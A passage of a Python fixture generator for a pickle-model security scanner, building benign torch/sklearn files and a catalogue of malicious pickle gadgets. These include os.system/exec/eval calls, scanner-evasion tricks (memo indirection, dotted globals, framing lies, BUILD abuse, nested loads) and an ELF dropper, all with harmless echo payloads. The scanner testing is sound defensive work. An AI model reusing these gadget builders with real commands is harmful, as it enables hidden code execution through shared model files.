#!/usr/bin/python3
"""Generate modelward's labelled fixture corpus with the real libraries.

Usage (from the repository root; Debian's python3-torch, python3-sklearn,
python3-joblib, python3-numpy and p7zip-full must be installed, and the script
must run under /usr/bin/python3, which is the interpreter that sees them):

    /usr/bin/python3 scripts/gen_fixtures.py testdata/corpus --examples examples

It writes benign/, malicious/ and unscannable/ under OUTDIR, a LABELS.tsv
(path, expected, class, note) and a README.md, and prints every file it writes
with its label. With --examples DIR it also writes the demo models under DIR.

SAFETY. Nothing here ever unpickles a malicious file. Payloads are produced by
*pickling* objects whose __reduce__ names a dangerous callable (dumping never
calls it) or by assembling opcodes by hand. Every payload is harmless if run
anyway: it echoes "modelward-test", or writes under a /tmp directory that does
not exist. The only things this script loads are (a) its own benign fixtures,
to prove the real libraries accept them, and (b) for each hand-assembled
gadget, a twin built with a harmless target (posixpath.basename, builtins.print
...) in place of the dangerous one, to prove the gadget chain really reaches its
call. Never load files from the corpus or from elsewhere to "try" them.

DETERMINISM. The script re-executes itself with PYTHONHASHSEED=0 (set and
frozenset order, and TorchScript's __constants__ order, depend on it) and one
thread for torch/BLAS; seeds are fixed; zip members get a fixed 1980-01-01
date. Reruns on the same machine and package versions are byte-identical except
unscannable/encrypted-zip.zip (ZipCrypto's 12-byte header is random in 7-Zip).
"""

import os
import sys

_ENV_FIXED = {
    "PYTHONHASHSEED": "0",
    "OMP_NUM_THREADS": "1",
    "OPENBLAS_NUM_THREADS": "1",
    "MKL_NUM_THREADS": "1",
    "TZ": "UTC",
}
if any(os.environ.get(k) != v for k, v in _ENV_FIXED.items()):
    env = dict(os.environ, **_ENV_FIXED)
    os.execve(sys.executable, [sys.executable] + sys.argv, env)

import argparse
import collections
import contextlib
import datetime
import decimal
import gzip
import io
import pickle
import pickletools
import random
import shutil
import struct
import subprocess
import tempfile
import types
import warnings
import zipfile
import zlib

warnings.simplefilter("ignore")

try:
    import numpy as np
    import torch
    import torch.nn as nn
    import joblib
    import sklearn
except ImportError as exc:  # pragma: no cover - environment problem
    sys.exit(
        f"gen_fixtures: {exc}. Run with /usr/bin/python3 after "
        "'apt-get install python3-torch python3-sklearn python3-joblib python3-numpy p7zip-full'."
    )

from sklearn.compose import ColumnTransformer, TransformedTargetRegressor
from sklearn.cluster import KMeans
from sklearn.datasets import load_breast_cancer, load_diabetes, load_digits, load_iris, load_wine
from sklearn.decomposition import PCA
from sklearn.ensemble import GradientBoostingClassifier, IsolationForest, RandomForestClassifier
from sklearn.feature_extraction.text import TfidfVectorizer
from sklearn.linear_model import LogisticRegression, Ridge
from sklearn.naive_bayes import MultinomialNB
from sklearn.neighbors import KNeighborsClassifier
from sklearn.neural_network import MLPClassifier
from sklearn.model_selection import GridSearchCV
from sklearn.pipeline import Pipeline
from sklearn.preprocessing import FunctionTransformer, OneHotEncoder, StandardScaler
from sklearn.svm import SVC
from sklearn.tree import DecisionTreeClassifier

torch.set_num_threads(1)

# ---------------------------------------------------------------------------
# Payload constants: harmless if ever executed.
CMD = "echo modelward-test"
POPEN_ARGV = ["echo", "modelward-test"]
EXEC_CODE = "import os; os.system('echo modelward-test')"
EVAL_EXPR = "__import__('os').system('echo modelward-test')"
DROP_PATH = "/tmp/modelward-test-nonexistent/dropped.elf"  # parent does not exist
DEMO_CMD = "echo modelward-demo: this would have run"

ZIP_DATE = (1980, 1, 1, 0, 0, 0)
FILE_MTIME = 946684800  # 2000-01-01T00:00:00Z, for files handed to 7z

BENIGN, MALICIOUS, UNSCANNABLE = "benign", "malicious", "unscannable"
MiB = 1024 * 1024


class Reduce:
    """An object that pickles as `fn(*args)`; pickling it never calls fn."""

    def __init__(self, fn, args):
        self.fn, self.args = fn, args

    def __reduce__(self):
        return (self.fn, self.args)


class NamedGlobalPickler(pickle._Pickler):
    """Pure-Python pickler that writes chosen callables under a chosen global
    name. Needed for a literal `os.system`: os.system.__module__ is 'posix', so
    the stock pickler always writes `posix system`."""

    def __init__(self, file, protocol=None, names=None, **kw):
        super().__init__(file, protocol, **kw)
        self.names = names if names is not None else {id(os.system): ("os", "system")}

    def save_global(self, obj, name=None):
        override = self.names.get(id(obj))
        if override is None:
            return super().save_global(obj, name)
        module, qualname = override
        if self.proto >= 4:
            self.save(module)
            self.save(qualname)
            self.write(pickle.STACK_GLOBAL)
        else:
            self.write(pickle.GLOBAL + module.encode() + b"\n" + qualname.encode() + b"\n")
        self.memoize(obj)


def dumps_named(obj, protocol):
    buf = io.BytesIO()
    NamedGlobalPickler(buf, protocol).dump(obj)
    return buf.getvalue()


def os_name_pickle_module():
    """A pickle_module for torch.save whose pickler writes `os system`."""
    mod = types.ModuleType("modelward_os_name_pickle")
    mod.Pickler = NamedGlobalPickler
    mod.dump = lambda obj, f, protocol=None: NamedGlobalPickler(f, protocol).dump(obj)
    return mod


# ---------------------------------------------------------------------------
# A tiny pickle opcode assembler. Each method appends one opcode (see
# Lib/pickletools.py for the opcode table) and returns self, so streams read as
# a listing: Asm().proto(2).global_("os", "system").short_binunicode(CMD)...


class Asm:
    def __init__(self):
        self.buf = bytearray()

    def raw(self, b):
        self.buf += b
        return self

    def bytes(self):
        return bytes(self.buf)

    # framing and control
    def proto(self, n):
        return self.raw(b"\x80" + bytes([n]))

    def frame(self, n):
        return self.raw(b"\x95" + struct.pack("<Q", n))

    def stop(self):
        return self.raw(b".")

    def mark(self):
        return self.raw(b"(")

    def pop(self):
        return self.raw(b"0")

    # globals and calls
    def global_(self, module, name):
        return self.raw(b"c" + module.encode() + b"\n" + name.encode() + b"\n")

    def stack_global(self):
        return self.raw(b"\x93")

    def inst(self, module, name):
        return self.raw(b"i" + module.encode() + b"\n" + name.encode() + b"\n")

    def obj(self):
        return self.raw(b"o")

    def reduce(self):
        return self.raw(b"R")

    def build(self):
        return self.raw(b"b")

    def newobj(self):
        return self.raw(b"\x81")

    def newobj_ex(self):
        return self.raw(b"\x92")

    # strings (text)
    def short_binunicode(self, s):
        b = s.encode("utf-8")
        assert len(b) < 256
        return self.raw(b"\x8c" + bytes([len(b)]) + b)

    def binunicode(self, s):
        b = s.encode("utf-8")
        return self.raw(b"X" + struct.pack("<I", len(b)) + b)

    def binunicode8(self, s):
        b = s.encode("utf-8")
        return self.raw(b"\x8d" + struct.pack("<Q", len(b)) + b)

    def unicode(self, s):  # protocol 0 'V', raw-unicode-escape, newline-terminated
        assert "\n" not in s and "\\" not in s
        return self.raw(b"V" + s.encode("raw-unicode-escape") + b"\n")

    def short_binstring(self, s):  # decoded to str by Python 3's default encoding
        b = s.encode("latin-1")
        assert len(b) < 256
        return self.raw(b"U" + bytes([len(b)]) + b)

    def binstring(self, s):
        b = s.encode("latin-1")
        return self.raw(b"T" + struct.pack("<i", len(b)) + b)

    def string(self, s):  # protocol 0 'S', quoted, escape-decoded
        assert s.isascii() and "\n" not in s
        return self.raw(b"S" + repr(s).encode("ascii") + b"\n")

    # bytes
    def binbytes(self, b):
        return self.raw(b"B" + struct.pack("<I", len(b)) + b)

    def short_binbytes(self, b):
        assert len(b) < 256
        return self.raw(b"C" + bytes([len(b)]) + b)

    # memo
    def put(self, i):
        return self.raw(b"p" + str(i).encode() + b"\n")

    def get(self, i):
        return self.raw(b"g" + str(i).encode() + b"\n")

    def binput(self, i):
        return self.raw(b"q" + bytes([i]))

    def binget(self, i):
        return self.raw(b"h" + bytes([i]))

    def long_binput(self, i):
        return self.raw(b"r" + struct.pack("<I", i))

    def long_binget(self, i):
        return self.raw(b"j" + struct.pack("<I", i))

    def memoize(self):
        return self.raw(b"\x94")

    # containers and constants
    def empty_tuple(self):
        return self.raw(b")")

    def tuple(self):
        return self.raw(b"t")

    def tuple1(self):
        return self.raw(b"\x85")

    def tuple2(self):
        return self.raw(b"\x86")

    def empty_list(self):
        return self.raw(b"]")

    def list(self):
        return self.raw(b"l")

    def empty_dict(self):
        return self.raw(b"}")

    def setitem(self):
        return self.raw(b"s")

    def setitems(self):
        return self.raw(b"u")

    def none(self):
        return self.raw(b"N")

    def binint1(self, n):
        return self.raw(b"K" + bytes([n]))


# ---------------------------------------------------------------------------
# Hand-assembled gadgets. Each builder takes the call target and argument as
# parameters so that the self-check can build a twin with a harmless target.


def g_stack_global_memo_binput(mod, name, arg):
    """Module/name strings are stored in a decoy dict, memoised with BINPUT, the
    dict is popped, and STACK_GLOBAL takes them back with BINGET: no string
    opcode sits next to STACK_GLOBAL."""
    a = Asm().proto(4).empty_dict().binput(0).mark()
    a.short_binunicode("module").short_binunicode(mod).binput(1)
    a.short_binunicode("name").short_binunicode(name).binput(2)
    a.setitems().pop()
    a.binget(1).binget(2).stack_global()
    return a.short_binunicode(arg).tuple1().reduce().stop().bytes()


def g_stack_global_memo_memoize(mod, name, arg):
    """As memo-binput, but with protocol 4's MEMOIZE (implicit memo indices)."""
    a = Asm().proto(4).empty_dict().memoize().mark()
    a.short_binunicode("module").short_binunicode(mod).memoize()
    a.short_binunicode("name").short_binunicode(name).memoize()
    a.setitems().pop()
    a.binget(1).binget(2).stack_global()
    return a.short_binunicode(arg).tuple1().reduce().stop().bytes()


def g_stack_global_memo_long_binput(mod, name, arg):
    """LONG_BINPUT/LONG_BINGET with large, sparse memo indices."""
    a = Asm().proto(4)
    a.short_binunicode(mod).long_binput(70000).pop()
    a.short_binunicode(name).long_binput(65536).pop()
    a.long_binget(70000).long_binget(65536).stack_global()
    return a.short_binunicode(arg).tuple1().reduce().stop().bytes()


def g_stack_global_memo_put_get_no_proto(mod, name, arg):
    """No PROTO header at all (a 'protocol 0' stream), text PUT/GET memo ops
    feeding protocol 4's STACK_GLOBAL; the unpickler does not gate opcodes by
    protocol."""
    a = Asm().unicode(mod).put(7).pop().unicode(name).put(8).pop()
    a.get(7).get(8).stack_global()
    return a.mark().unicode(arg).tuple().reduce().stop().bytes()


def _sg_with(string_op):
    def build(mod, name, arg):
        a = Asm().proto(4)
        string_op(a, mod)
        string_op(a, name)
        a.stack_global()
        return a.short_binunicode(arg).tuple1().reduce().stop().bytes()

    return build


g_sg_short_binunicode = _sg_with(Asm.short_binunicode)
g_sg_binunicode = _sg_with(Asm.binunicode)
g_sg_binunicode8 = _sg_with(Asm.binunicode8)
g_sg_short_binstring = _sg_with(Asm.short_binstring)
g_sg_binstring = _sg_with(Asm.binstring)
g_sg_string = _sg_with(Asm.string)
g_sg_unicode = _sg_with(Asm.unicode)


def g_dotted_stack_global(mod, name, arg):
    """Protocol >= 4 find_class resolves dotted names attribute by attribute,
    so ('torch', 'serialization.os.system') is os.system."""
    a = Asm().proto(4).short_binunicode(mod).short_binunicode(name).stack_global()
    return a.short_binunicode(arg).tuple1().reduce().stop().bytes()


def g_dotted_global(mod, name, arg):
    """Same dotted resolution through the text GLOBAL opcode (PROTO 4 set)."""
    a = Asm().proto(4).global_(mod, name)
    return a.short_binunicode(arg).tuple1().reduce().stop().bytes()


def g_getattr_import(mod, attr, arg):
    """builtins.getattr(builtins.__import__(mod), attr)(arg): no dangerous
    name appears as a global, only as strings."""
    a = Asm().proto(3).global_("builtins", "getattr")
    a.global_("builtins", "__import__").short_binunicode(mod).tuple1().reduce()
    a.short_binunicode(attr).tuple2().reduce()
    return a.short_binunicode(arg).tuple1().reduce().stop().bytes()


def g_getattr_dotted_module(mod, modpath, attr, arg):
    """builtins.getattr(<module reached by a dotted global>, attr)(arg), e.g.
    the os module as ('pathlib', 'os')."""
    a = Asm().proto(4).global_("builtins", "getattr")
    a.short_binunicode(mod).short_binunicode(modpath).stack_global()
    a.short_binunicode(attr).tuple2().reduce()
    return a.short_binunicode(arg).tuple1().reduce().stop().bytes()


def g_operator_attrgetter(mod, attr, arg):
    """operator.attrgetter(attr)(importlib.import_module(mod))(arg)."""
    a = Asm().proto(3).global_("operator", "attrgetter").short_binunicode(attr).tuple1().reduce()
    a.global_("importlib", "import_module").short_binunicode(mod).tuple1().reduce()
    a.tuple1().reduce()
    return a.short_binunicode(arg).tuple1().reduce().stop().bytes()


def g_inst(mod, name, arg):
    """Protocol 0 INST: MARK args INST module name -> module.name(*args)."""
    return Asm().mark().string(arg).inst(mod, name).stop().bytes()


def g_obj(mod, name, arg):
    """Protocol 1 OBJ: MARK callable args OBJ -> callable(*args)."""
    return Asm().mark().global_(mod, name).binunicode(arg).obj().stop().bytes()


def g_newobj_popen(mod, name, argv):
    """NEWOBJ: cls.__new__(cls, *args) with cls = subprocess.Popen. __new__ alone
    spawns nothing; the class is flagged for importing subprocess.Popen."""
    a = Asm().proto(2).global_(mod, name).mark()
    for s in argv:
        a.binunicode(s)
    return a.list().tuple1().newobj().stop().bytes()


def g_newobj_ex_popen(mod, name, argv):
    """NEWOBJ_EX: cls.__new__(cls, *args, **kwargs), names via STACK_GLOBAL."""
    a = Asm().proto(4).short_binunicode(mod).short_binunicode(name).stack_global().mark()
    for s in argv:
        a.short_binunicode(s)
    a.list().tuple1().empty_dict().short_binunicode("shell").raw(pickle.NEWFALSE).setitem()
    return a.newobj_ex().stop().bytes()


def g_build_setstate(mod, name, arg):
    """BUILD abuse: argparse.Namespace() has no __setstate__; a first BUILD with
    (None, {'__setstate__': fn}) sets it as an instance attribute through the
    slot-state path; a second BUILD with state=arg then calls fn(arg)."""
    a = Asm().proto(2).global_("argparse", "Namespace").empty_tuple().reduce()
    a.none().empty_dict().short_binunicode("__setstate__").global_(mod, name).setitem().tuple2().build()
    return a.short_binunicode(arg).build().stop().bytes()


def g_trailing_garbage(mod, name, arg):
    """Calls mod.name(arg), then bytes that are no opcode (0xff...) and no STOP:
    the call has already happened when the unpickler fails."""
    a = Asm().proto(2).global_(mod, name).short_binunicode(arg).tuple1().reduce()
    return a.raw(b"\xff\xfe\xfd modelward garbage \x00\x01\x02").bytes()


def g_truncated_after_reduce(mod, name, arg):
    """Ends right after REDUCE: no STOP."""
    return Asm().proto(2).global_(mod, name).short_binunicode(arg).tuple1().reduce().bytes()


def g_frame_length_lie(mod, name, arg):
    """FRAME declares 1 byte but the payload runs on past it; CPython only
    checks that the declared bytes exist, then keeps reading."""
    a = Asm().proto(4).frame(1).short_binunicode(mod).short_binunicode(name).stack_global()
    return a.short_binunicode(arg).tuple1().reduce().stop().bytes()


def g_plain_global_call(mod, name, arg):
    return Asm().proto(2).global_(mod, name).binunicode(arg).tuple1().reduce().stop().bytes()


def g_second_stream(mod, name, arg):
    """A benign first stream, then the payload as a second stream in the file
    (torch's legacy format and joblib both read several streams in a row)."""
    first = pickle.dumps({"weights": [0.5, 0.25], "epoch": 3}, protocol=2)
    return first + g_plain_global_call(mod, name, arg)


def g_nested_loads(mod, name, arg):
    """pickle.loads(<BINBYTES holding a payload pickle>)."""
    inner = g_plain_global_call(mod, name, arg)
    return Asm().proto(3).global_("pickle", "loads").binbytes(inner).tuple1().reduce().stop().bytes()


def tiny_elf():
    """A minimal, valid x86-64 ELF executable whose only code is exit(0)."""
    code = b"\xb8\x3c\x00\x00\x00" b"\x31\xff" b"\x0f\x05"  # mov eax,60; xor edi,edi; syscall
    base, ehsize, phsize = 0x400000, 64, 56
    total = ehsize + phsize + len(code)
    ident = b"\x7fELF" + bytes([2, 1, 1, 0]) + b"\x00" * 8
    eh = ident + struct.pack("<HHIQQQIHHHHHH", 2, 0x3E, 1, base + ehsize + phsize, ehsize, 0, 0,
                             ehsize, phsize, 1, 64, 0, 0)
    ph = struct.pack("<IIQQQQQQ", 1, 5, 0, base, base, total, total, 0x1000)
    return eh + ph + code


def g_elf_dropper(opener_mod, opener_name, opener_args, data):
    """getattr(open(DROP_PATH, 'wb'), 'write')(<ELF bytes>): drops an executable
    (the directory does not exist, so running it fails harmlessly)."""
    a = Asm().proto(3).global_("builtins", "getattr")
    a.global_(opener_mod, opener_name).mark()
    for s in opener_args:
        a.short_binunicode(s)
    a.tuple().reduce().short_binunicode("write").tuple2().reduce()
    return a.binbytes(data).tuple1().reduce().stop().bytes()


def g_py2_eval_p0(mod, name, arg):
    """Protocol 0 `c__builtin__\\neval`; Python 3 maps __builtin__ to builtins
    (fix_imports) for protocols < 3."""
    return Asm().global_(mod, name).mark().string(arg).tuple().reduce().stop().bytes()


def g_py2_exec_p2(mod, name, arg):
    return Asm().proto(2).global_(mod, name).binunicode(arg).tuple1().reduce().stop().bytes()


def g_codecs_to_exec(mod, name, code):
    """The _codecs.encode trick (how protocol <= 2 writes bytes) feeding exec:
    exec(_codecs.encode(code, 'latin1'))."""
    a = Asm().proto(2).global_(mod, name)
    a.global_("_codecs", "encode").binunicode(code).short_binunicode("latin1").tuple2().reduce()
    return a.tuple1().reduce().stop().bytes()


def g_codecs_bytes_benign():
    """Benign: builtins.bytes(_codecs.encode(text, 'latin1')) and builtins.bytes(),
    exactly what Python 3 writes for bytes at protocol <= 2."""
    a = Asm().proto(2).empty_list().mark()
    a.global_("builtins", "bytes").global_("_codecs", "encode")
    a.binunicode("\x7fmodelward \xff bytes").short_binunicode("latin1").tuple2().reduce().tuple1().reduce()
    a.global_("__builtin__", "bytes").empty_tuple().reduce()
    return a.raw(b"e").stop().bytes()


# ---------------------------------------------------------------------------
# Zip helpers: walk entries, patch bytes in place, rebuild with fixed dates.


def zip_entries(buf):
    """Yield dicts with central/local header offsets of each member."""
    infos = zipfile.ZipFile(io.BytesIO(bytes(buf))).infolist()
    eocd = buf.rfind(b"PK\x05\x06")
    assert eocd >= 0, "no end of central directory"
    cd_off = struct.unpack_from("<I", buf, eocd + 16)[0]
    if cd_off == 0xFFFFFFFF:
        loc = buf.rfind(b"PK\x06\x07", 0, eocd)
        z64 = struct.unpack_from("<Q", buf, loc + 8)[0]
        cd_off = struct.unpack_from("<Q", buf, z64 + 48)[0]
    pos = cd_off
    for info in infos:
        assert buf[pos:pos + 4] == b"PK\x01\x02"
        nlen, xlen, clen = struct.unpack_from("<HHH", buf, pos + 28)
        name = bytes(buf[pos + 46:pos + 46 + nlen]).decode("utf-8")
        loff = info.header_offset
        assert buf[loff:loff + 4] == b"PK\x03\x04"
        lnlen, lxlen = struct.unpack_from("<HH", buf, loff + 26)
        yield {"name": name, "central": pos, "local": loff, "info": info,
               "data": loff + 30 + lnlen + lxlen, "flags": struct.unpack_from("<H", buf, pos + 8)[0]}
        pos += 46 + nlen + xlen + clen


def dos_datetime(dt):
    y, mo, d, h, mi, s = dt
    return ((h << 11) | (mi << 5) | (s // 2)), (((y - 1980) << 9) | (mo << 5) | d)


def zip_fix_dates(buf):
    buf = bytearray(buf)
    t, d = dos_datetime(ZIP_DATE)
    for e in list(zip_entries(buf)):
        struct.pack_into("<HH", buf, e["central"] + 12, t, d)
        struct.pack_into("<HH", buf, e["local"] + 10, t, d)
    return bytes(buf)


def zip_entry(buf, name):
    for e in zip_entries(buf):
        if e["name"] == name:
            return e
    raise KeyError(name)


def zip_set_flag(buf, name, bit):
    buf = bytearray(buf)
    e = zip_entry(buf, name)
    for off in (e["central"] + 8, e["local"] + 6):
        struct.pack_into("<H", buf, off, struct.unpack_from("<H", buf, off)[0] | bit)
    return bytes(buf)


def zip_set_crc(buf, name, crc):
    """Write a wrong CRC everywhere the member's CRC is recorded: central
    directory, local header (if not deferred) and data descriptor (flag bit 3)."""
    buf = bytearray(buf)
    e = zip_entry(buf, name)
    struct.pack_into("<I", buf, e["central"] + 16, crc)
    if struct.unpack_from("<I", buf, e["local"] + 14)[0] != 0 or not e["flags"] & 0x8:
        struct.pack_into("<I", buf, e["local"] + 14, crc)
    if e["flags"] & 0x8:
        dd = e["data"] + e["info"].compress_size
        if buf[dd:dd + 4] == b"PK\x07\x08":
            dd += 4
        struct.pack_into("<I", buf, dd, crc)
    return bytes(buf)


def zip_rename_header(buf, name, new, where):
    assert len(new.encode()) == len(name.encode())
    buf = bytearray(buf)
    e = zip_entry(buf, name)
    off = e["central"] + 46 if where == "central" else e["local"] + 30
    assert bytes(buf[off:off + len(name)]) == name.encode()
    buf[off:off + len(new)] = new.encode()
    return bytes(buf)


def zip_rebuild(src, rename=None, replace=None):
    """Rebuild a zip with Python's zipfile (stored, fixed dates), renaming or
    replacing members. Reads member bytes only; never unpickles."""
    rename, replace = rename or {}, replace or {}
    zin = zipfile.ZipFile(io.BytesIO(src))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as zout:
        for info in zin.infolist():
            data = replace.get(info.filename, None)
            if data is None:
                data = zin.read(info.filename)
            zi = zipfile.ZipInfo(rename.get(info.filename, info.filename), date_time=ZIP_DATE)
            zi.create_system = 3
            zi.external_attr = 0o644 << 16
            zout.writestr(zi, data)
    missing = (set(rename) | set(replace)) - {i.filename for i in zin.infolist()}
    assert not missing, missing
    return out.getvalue()


# ---------------------------------------------------------------------------
# torch helpers


def torch_zip_bytes(obj, filename=None, pickle_module=pickle):
    """torch.save in the zip format. Saved to a BytesIO the archive prefix is
    'archive/'; saved to a file it is the file's stem, so pass filename to get
    that layout."""
    if filename is None:
        buf = io.BytesIO()
        torch.save(obj, buf, pickle_module=pickle_module)
        return buf.getvalue()
    with tempfile.TemporaryDirectory() as td:
        path = os.path.join(td, filename)
        torch.save(obj, path, pickle_module=pickle_module)
        with open(path, "rb") as f:
            return f.read()


def torch_legacy_bytes(obj, magic_payload=None):
    """torch.save(..., _use_new_zipfile_serialization=False), made reproducible.

    The legacy writer keys storages by their memory address and writes them in
    sorted-address order. We pass a pickle_module whose pickler rewrites each
    storage key to its first-use index ('0', '1', ...), whose dump() maps the
    key list the same way, and patch the module's `sorted` to order keys by
    that index. The format is unchanged. With magic_payload, the first
    (magic-number) pickle is replaced by those bytes."""
    canon = {}

    class CanonPickler(pickle._Pickler):
        def __init__(self, *a, **kw):
            super().__init__(*a, **kw)
            self._pid = lambda o: None

        @property
        def persistent_id(self):
            return self._pid

        @persistent_id.setter
        def persistent_id(self, fn):
            def wrapped(o):
                r = fn(o)
                if isinstance(r, tuple) and r and r[0] == "storage":
                    r = (r[0], r[1], canon.setdefault(r[2], str(len(canon)))) + tuple(r[3:])
                return r
            self._pid = wrapped

    def dump(o, f, protocol=None):
        if magic_payload is not None and type(o) is int and o == torch.serialization.MAGIC_NUMBER:
            f.write(magic_payload)
            return
        if isinstance(o, list) and o and all(isinstance(k, str) and k in canon for k in o):
            o = [canon[k] for k in o]
        pickle.dump(o, f, protocol=protocol)

    mod = types.ModuleType("modelward_canon_pickle")
    mod.Pickler, mod.dump = CanonPickler, dump
    torch.serialization.sorted = lambda keys: sorted(keys, key=lambda k: int(canon[k]))
    try:
        buf = io.BytesIO()
        torch.save(obj, buf, pickle_module=mod, _use_new_zipfile_serialization=False)
    finally:
        del torch.serialization.sorted
    return buf.getvalue()


class SmallNet(nn.Module):
    def __init__(self):
        super().__init__()
        self.conv = nn.Conv2d(1, 4, 3)
        self.bn = nn.BatchNorm2d(4)
        self.fc1 = nn.Linear(4 * 6 * 6, 16)
        self.fc2 = nn.Linear(16, 3)

    def forward(self, x):
        x = torch.relu(self.bn(self.conv(x)))
        return self.fc2(torch.relu(self.fc1(x.flatten(1))))


class TinyMLP(nn.Module):
    def __init__(self):
        super().__init__()
        self.l1 = nn.Linear(4, 8)
        self.l2 = nn.Linear(8, 3)

    def forward(self, x):
        return self.l2(torch.relu(self.l1(x)))


def all_nn_sequential():
    return nn.Sequential(
        nn.Embedding(20, 8), nn.Linear(8, 8), nn.ReLU(), nn.Dropout(0.1), nn.LayerNorm(8),
        nn.Conv2d(1, 2, 3), nn.BatchNorm2d(2), nn.LSTM(8, 8, num_layers=1, batch_first=True),
    )


# ---------------------------------------------------------------------------
# The corpus writer


class Corpus:
    def __init__(self, root):
        self.root = root
        self.labels = []

    def emit(self, rel, data, expected, cls, note):
        assert expected in (BENIGN, MALICIOUS, UNSCANNABLE)
        assert "\t" not in note and "\n" not in note
        path = os.path.join(self.root, rel)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as f:
            f.write(data)
        self.labels.append((rel, expected, cls, note))
        print(f"{expected:<11} {cls:<40} {len(data):>9}  {rel}")


def gen_torch_benign(c):
    d = "benign/torch/"
    torch.manual_seed(0)
    net = SmallNet()
    c.emit(d + "state_dict_float32.pt", torch_zip_bytes(net.state_dict(), "state_dict_float32.pt"),
           BENIGN, "torch-state-dict", "float32 conv/bn/linear state dict; zip prefix = file stem")
    c.emit(d + "state_dict_float16.pt", torch_zip_bytes(SmallNet().half().state_dict()),
           BENIGN, "torch-state-dict", "float16 state dict")
    c.emit(d + "state_dict_bfloat16.pt", torch_zip_bytes(SmallNet().to(torch.bfloat16).state_dict()),
           BENIGN, "torch-state-dict", "bfloat16 state dict")
    torch.manual_seed(1)
    cplx = {"w": torch.randn(4, 4, dtype=torch.complex64), "b": torch.randn(4, dtype=torch.complex64)}
    c.emit(d + "state_dict_complex64.pt", torch_zip_bytes(cplx),
           BENIGN, "torch-state-dict", "complex64 tensors")
    c.emit(d + "state_dict_legacy.pt", torch_legacy_bytes(TinyMLP().state_dict()),
           BENIGN, "torch-legacy", "state dict in the legacy (non-zip) format; storage keys canonicalised")

    torch.manual_seed(2)
    lin = nn.Sequential(nn.Linear(8, 16), nn.ReLU(), nn.Linear(16, 4))
    q = torch.quantization.quantize_dynamic(lin, {nn.Linear}, dtype=torch.qint8)
    c.emit(d + "quantized_dynamic_int8.pt", torch_zip_bytes(q.state_dict()),
           BENIGN, "torch-quantized", "quantize_dynamic(qint8) Linear state dict (_rebuild_qtensor, packed params)")
    qt = torch.quantize_per_tensor(torch.randn(4, 4), 0.1, 10, torch.quint8)
    c.emit(d + "quantized_per_tensor.pt", torch_zip_bytes({"q": qt, "scale": 0.1}),
           BENIGN, "torch-quantized", "torch.quantize_per_tensor quint8 tensor")

    torch.manual_seed(3)
    dense = torch.randn(6, 5)
    dense[dense < 0.4] = 0
    c.emit(d + "sparse_coo_csr.pt",
           torch_zip_bytes({"coo": dense.to_sparse(), "csr": dense.to_sparse_csr(), "dense": dense}),
           BENIGN, "torch-sparse", "sparse COO and CSR tensors (_rebuild_sparse_tensor / _rebuild_sparse_csr_tensor)")

    torch.manual_seed(4)
    np.random.seed(4)
    model = TinyMLP()
    opt = torch.optim.Adam(model.parameters(), lr=1e-3)
    x, y = torch.randn(16, 4), torch.randint(0, 3, (16,))
    for _ in range(3):
        opt.zero_grad()
        nn.functional.cross_entropy(model(x), y).backward()
        opt.step()
    ckpt = {
        "epoch": 3,
        "model_state_dict": model.state_dict(),
        "optimizer_state_dict": opt.state_dict(),
        "loss": 1.0986,
        "numpy_rng_state": np.random.get_state(),
        "torch_rng_state": torch.get_rng_state(),
        "python_rng_state": random.Random(4).getstate(),
        "args": {"lr": 1e-3, "batch_size": 16, "tags": ("a", "b")},
    }
    c.emit(d + "checkpoint_full.pt", torch_zip_bytes(ckpt),
           BENIGN, "torch-checkpoint", "model + Adam state, epoch, numpy/torch/python RNG states")

    torch.manual_seed(5)
    seq = all_nn_sequential()
    c.emit(d + "full_module.pt", torch_zip_bytes(seq),
           BENIGN, "torch-full-module", "torch.save of a whole nn.Sequential (Linear/ReLU/Conv2d/BatchNorm2d/Dropout/LayerNorm/Embedding/LSTM)")
    c.emit(d + "full_module_legacy.pt", torch_legacy_bytes(seq),
           BENIGN, "torch-legacy", "same nn.Sequential, _use_new_zipfile_serialization=False (embeds torch source text)")

    torch.manual_seed(6)
    scripted = torch.jit.script(TinyMLP())
    buf = io.BytesIO()
    torch.jit.save(scripted, buf)
    c.emit(d + "torchscript_scripted.pt", buf.getvalue(),
           BENIGN, "torchscript", "torch.jit.script + torch.jit.save")
    torch.manual_seed(7)
    traced = torch.jit.trace(SmallNet().eval(), torch.randn(1, 1, 8, 8))
    buf = io.BytesIO()
    torch.jit.save(traced, buf)
    c.emit(d + "torchscript_traced.pt", buf.getvalue(),
           BENIGN, "torchscript", "torch.jit.trace + torch.jit.save")

    torch.manual_seed(8)
    big = collections.OrderedDict()
    for i in range(20000):
        big[f"blocks.{i // 4}.p{i % 4}"] = torch.randn(2)
    c.emit(d + "state_dict_20k.pt", torch_zip_bytes(big, "state_dict_20k.pt"),
           BENIGN, "torch-state-dict-20k", "20,000 two-element tensors, one storage each; benchmark input")

    # An LR scheduler's state dict, saved in most checkpoints that use one:
    # OneCycleLR keeps self._annealing_cos, pickled as the bound method
    # builtins.getattr(OneCycleLR(), "_annealing_cos").
    torch.manual_seed(9)
    mlp = TinyMLP()
    sgd = torch.optim.SGD(mlp.parameters(), lr=0.1, momentum=0.9)
    onecycle = torch.optim.lr_scheduler.OneCycleLR(sgd, max_lr=0.1, total_steps=10)
    c.emit(d + "onecycle_scheduler.pt",
           torch_zip_bytes({"model": mlp.state_dict(), "optimizer": sgd.state_dict(), "scheduler": onecycle.state_dict()}),
           BENIGN, "torch-checkpoint-scheduler",
           "checkpoint with a OneCycleLR state dict (bound method as getattr(OneCycleLR(), '_annealing_cos'))")


def sklearn_data():
    iris, wine, bc = load_iris(), load_wine(), load_breast_cancer()
    digits, diab = load_digits(), load_diabetes()
    rng = random.Random(0)
    topics = [
        "model weights tensor layer gradient training epoch loss optimizer".split(),
        "pickle opcode payload scanner archive zip stream global reduce".split(),
    ]
    docs, labels = [], []
    for i in range(80):
        t = i % 2
        docs.append(" ".join(rng.choice(topics[t] + topics[1 - t][:2]) for _ in range(12)))
        labels.append(t)
    sizes = np.array(["small", "medium", "large"], dtype=object)
    mixed = np.empty((150, 5), dtype=object)
    mixed[:, :4] = iris.data
    mixed[:, 4] = sizes[np.digitize(iris.data[:, 2], [2.5, 5.0])]
    return iris, wine, bc, digits, diab, docs, labels, mixed


def gen_sklearn_benign(c):
    iris, wine, bc, digits, diab, docs, labels, mixed = sklearn_data()
    X_iris, y_iris = iris.data, iris.target
    models = [
        ("logistic_regression", LogisticRegression(max_iter=500), X_iris, y_iris),
